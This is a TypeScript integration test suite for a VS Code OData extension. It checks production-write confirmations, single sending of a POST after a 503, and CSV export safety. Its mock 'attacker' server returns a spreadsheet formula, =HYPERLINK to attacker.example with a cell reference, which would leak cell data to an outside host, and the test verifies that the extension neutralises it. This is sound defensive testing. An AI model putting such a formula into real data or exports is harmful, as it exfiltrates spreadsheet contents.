// Issue 12 in the extension host, where the wiring matters: the production confirmation on Send all, on a $batch
// (with its reads and writes counted) and on Send again from the History; a POST answered 503 sent once, the panel's
// "may or may not have happened" notice and its user-only "Send again"; the CSV formula setting; and no test-only
// command in the extension's manifest. The service is an "attacker" server of the tests on 127.0.0.1 that records
// every request it receives. Confirmations are answered through a command that exists only under the test harness.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { SendSummary } from '../../../client/src/features/runner/runnerCommands';
import { startAttackerServer, type AttackerServer } from '../../security/attackerServer';
import { EXTENSION_ID, waitFor } from './helpers';

const PROD = 'trust-prod';
const DEV = 'trust-dev';

function batchBody(): string {
  return [
    '--batch_1',
    'Content-Type: application/http',
    '',
    'GET things HTTP/1.1',
    '',
    '--batch_1',
    'Content-Type: application/http',
    '',
    'POST things HTTP/1.1',
    'Content-Type: application/json',
    '',
    '{"name":"from a batch"}',
    '--batch_1--',
  ].join('\n');
}

suite('trust: the runner (issue 12)', () => {
  let attacker: AttackerServer;
  let workspace = '';
  let settingsFile = '';
  let original = '';
  const files: string[] = [];
  let posts = 0;
  /** What the service received from the runner (a metadata download of a new environment is not the runner's). */
  const requests = (): AttackerServer['received'] => attacker.received.filter((request) => !request.url.includes('$metadata'));

  /** Answers the next production confirmations (true = confirm) and returns the questions asked since the last call. */
  const confirmations = async (answers: boolean[] | undefined): Promise<string[]> => (await vscode.commands.executeCommand<string[]>('dynamicsOData.runner.scriptConfirmations', answers)) ?? [];

  const writeFile = (name: string, text: string): vscode.Uri => {
    const file = path.join(workspace, name);
    fs.writeFileSync(file, text);
    files.push(file);
    return vscode.Uri.file(file);
  };

  suiteSetup(async () => {
    // Test-only commands are not declared in the manifest, so calling one does not activate the extension: activate it.
    await vscode.extensions.getExtension(EXTENSION_ID)!.activate();
    attacker = await startAttackerServer((request) => {
      if (request.method === 'POST' && request.url.includes('/create')) {
        posts += 1;
        return posts === 1 ? { status: 503, json: { error: { code: '503', message: 'Service Unavailable' } } } : { status: 201, json: { id: posts } };
      }
      return { status: 200, json: { value: [{ name: '=HYPERLINK("http://attacker.example/?x="&A1)', n: -3 }] } };
    });
    workspace = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
    settingsFile = path.join(workspace, '.vscode', 'settings.json');
    original = fs.readFileSync(settingsFile, 'utf8');
    const configuration = vscode.workspace.getConfiguration('dynamicsOData');
    const current = configuration.inspect<unknown[]>('environments')?.workspaceValue ?? [];
    await configuration.update(
      'environments',
      [...current, { name: PROD, flavor: 'generic', url: `${attacker.url}/prod/`, production: true }, { name: DEV, flavor: 'generic', url: `${attacker.url}/dev/` }],
      vscode.ConfigurationTarget.Workspace,
    );
    await waitFor('the trust environments', () => (vscode.workspace.getConfiguration('dynamicsOData').get<{ name: string }[]>('environments', []).some((env) => env.name === DEV) ? true : undefined));
  });

  suiteTeardown(async () => {
    await confirmations(undefined);
    for (const file of files) fs.rmSync(file, { force: true, recursive: true });
    fs.writeFileSync(settingsFile, original);
    await attacker.stop();
    await waitFor('the original workspace settings', () => (vscode.workspace.getConfiguration('dynamicsOData').get<{ name: string }[]>('environments', []).some((env) => env.name === PROD) ? undefined : true));
  });

  test('Send all to production asks once, naming the writes; declined, nothing is sent', async () => {
    const file = writeFile('trust-send-all.odata', `@environment = ${PROD}\n\n### Read\nGET things\n\n### Write\nPOST things\nContent-Type: application/json\n\n{"name":"x"}\n`);
    await confirmations([false]);
    const summaries = await vscode.commands.executeCommand<SendSummary[]>('dynamicsOData.sendAll', { uri: file.toString() });
    const asked = await confirmations([]);
    assert.equal(asked.length, 1, asked.join(' | '));
    assert.match(asked[0]!, /"trust-prod" is a production environment\. Send all 2 requests\? 1 of them change data\./);
    assert.match(asked[0]!, /POST http:\/\/127\.0\.0\.1:\d+\/prod\/things/);
    assert.equal(summaries.length, 1);
    assert.equal(summaries[0]!.cancelled, true);
    assert.equal(requests().length, 0, 'nothing reached the service');
  });

  test('a $batch to production says how many reads and writes it holds; declined, nothing is sent', async () => {
    const file = writeFile('trust-batch.odata', `@environment = ${PROD}\n\nPOST $batch\nContent-Type: multipart/mixed; boundary=batch_1\n\n${batchBody()}\n`);
    await confirmations([false]);
    const summary = await vscode.commands.executeCommand<SendSummary>('dynamicsOData.sendRequest', { uri: file.toString(), index: 0 });
    const asked = await confirmations([]);
    assert.equal(summary.cancelled, true, summary.message);
    assert.equal(asked.length, 1);
    assert.match(asked[0]!, /Send this \$batch \(1 read and 1 write\)\?/);
    assert.equal(requests().length, 0);
  });

  test('Send again from the History asks again for a production write', async () => {
    const file = writeFile('trust-history.odata', `@environment = ${PROD}\n\n### Production write\nPATCH things(1)\nContent-Type: application/json\n\n{"name":"y"}\n`);
    await confirmations([true]);
    const sent = await vscode.commands.executeCommand<SendSummary>('dynamicsOData.sendRequest', { uri: file.toString(), index: 0 });
    assert.equal(sent.status, 200, sent.message);
    assert.equal(requests().length, 1);
    const entries = await vscode.commands.executeCommand<Array<{ id: string; title: string }>>('dynamicsOData.history.entries');
    const entry = entries.find((e) => e.title === 'Production write');
    assert.ok(entry);
    await confirmations([false]);
    const again = await vscode.commands.executeCommand<SendSummary>('dynamicsOData.history.rerun', entry.id);
    const asked = await confirmations([]);
    assert.equal(again.cancelled, true, again.message);
    assert.match(asked.at(-1) ?? '', /"trust-prod" is a production environment\. Send again PATCH/);
    assert.equal(requests().length, 1, 'not sent again');
    attacker.received.length = 0;
  });

  test('a POST answered 503 is sent once; the panel says it may or may not have happened; "Send again" is the user\'s', async () => {
    const file = writeFile('trust-503.odata', `@environment = ${DEV}\n\n### Create once\nPOST create\nContent-Type: application/json\n\n{"name":"once"}\n`);
    const summary = await vscode.commands.executeCommand<SendSummary>('dynamicsOData.sendRequest', { uri: file.toString(), index: 0 });
    assert.equal(summary.status, 503, summary.message);
    assert.equal(summary.maybeApplied, true);
    assert.equal(posts, 1, 'no automatic retry of the POST');
    const snapshot = await waitFor('the results panel of the 503', async () => {
      const current = await vscode.commands.executeCommand<{ title: string; maybeApplied: boolean; httpStatus?: number } | undefined>('dynamicsOData.results.snapshot');
      return current?.title === 'Create once' ? current : undefined;
    });
    assert.equal(snapshot.maybeApplied, true);
    assert.equal(posts, 1);
    await vscode.commands.executeCommand('dynamicsOData.results.sendAgain');
    await waitFor('the second POST, sent by the user', () => (posts === 2 ? true : undefined));
    const after = await waitFor('the panel after Send again', async () => {
      const current = await vscode.commands.executeCommand<{ httpStatus?: number; maybeApplied: boolean } | undefined>('dynamicsOData.results.snapshot');
      return current?.httpStatus === 201 ? current : undefined;
    });
    assert.equal(after.maybeApplied, false);
    attacker.received.length = 0;
  });

  test('CSV export neutralises formula cells, unless dynamicsOData.runner.csvNeutralizeFormulas is off', async () => {
    const file = writeFile('trust-csv.odata', `@environment = ${DEV}\n\n### Formula cells\nGET things\n`);
    const summary = await vscode.commands.executeCommand<SendSummary>('dynamicsOData.sendRequest', { uri: file.toString(), index: 0 });
    assert.equal(summary.status, 200, summary.message);
    await waitFor('the formula panel', async () => ((await vscode.commands.executeCommand<{ title: string } | undefined>('dynamicsOData.results.snapshot'))?.title === 'Formula cells' ? true : undefined));
    const target = path.join(workspace, 'trust-export.csv');
    files.push(target);
    await vscode.commands.executeCommand('dynamicsOData.results.exportTo', target, 'csv');
    const safe = fs.readFileSync(target, 'utf8');
    assert.ok(safe.includes(`"'=HYPERLINK(`), safe);
    assert.ok(safe.includes(',-3'), 'numbers stay numbers');
    const configuration = vscode.workspace.getConfiguration('dynamicsOData');
    await configuration.update('runner.csvNeutralizeFormulas', false, vscode.ConfigurationTarget.Workspace);
    try {
      await waitFor('the setting', () => (vscode.workspace.getConfiguration('dynamicsOData').get<boolean>('runner.csvNeutralizeFormulas') === false ? true : undefined));
      await vscode.commands.executeCommand('dynamicsOData.results.exportTo', target, 'csv');
      assert.ok(fs.readFileSync(target, 'utf8').includes('"=HYPERLINK('));
    } finally {
      await configuration.update('runner.csvNeutralizeFormulas', undefined, vscode.ConfigurationTarget.Workspace);
    }
    attacker.received.length = 0;
  });

  test('the Business Central page command does not replace existing files without asking', async () => {
    const folder = path.join(workspace, 'trust-bc');
    files.push(folder);
    const answers = ['contoso', 'sales', 'v1.0', 'Customer', true, true, '50100', 'Contoso Customer API', 'No.', true, 'Name', 'displayName', ''];
    type Result = { written: string[]; cancelled?: boolean } | undefined;
    const first = await vscode.commands.executeCommand<Result>('dynamicsOData.newBusinessCentralApiPage', { folder, environment: '', answers });
    assert.equal(first?.written.length, 2, JSON.stringify(first));
    const page = first!.written.find((written) => written.endsWith('.Page.al'))!;
    fs.writeFileSync(page, '// my own edits\n');
    const second = await vscode.commands.executeCommand<Result>('dynamicsOData.newBusinessCentralApiPage', { folder, environment: '', answers });
    assert.equal(second?.cancelled, true, JSON.stringify(second));
    assert.equal(fs.readFileSync(page, 'utf8'), '// my own edits\n', 'not replaced without asking');
    const third = await vscode.commands.executeCommand<Result>('dynamicsOData.newBusinessCentralApiPage', { folder, environment: '', answers, overwrite: true });
    assert.equal(third?.written.length, 2);
    assert.match(fs.readFileSync(page, 'utf8'), /page 50100/);
  });

  test('the manifest declares none of the test-only commands', () => {
    const manifest = vscode.extensions.getExtension(EXTENSION_ID)?.packageJSON as { contributes: { commands: Array<{ command: string; title: string }> } };
    const testOnly = manifest.contributes.commands.filter((command) =>
      /results\.(snapshot|exportTo|loadNextPage|loadAll|sendAgain)|history\.entries|scriptConfirmations|explorer\.snapshot|agents\.prepareRunQuery/.test(command.command),
    );
    assert.deepEqual(testOnly.map((command) => command.command), []);
  });
});
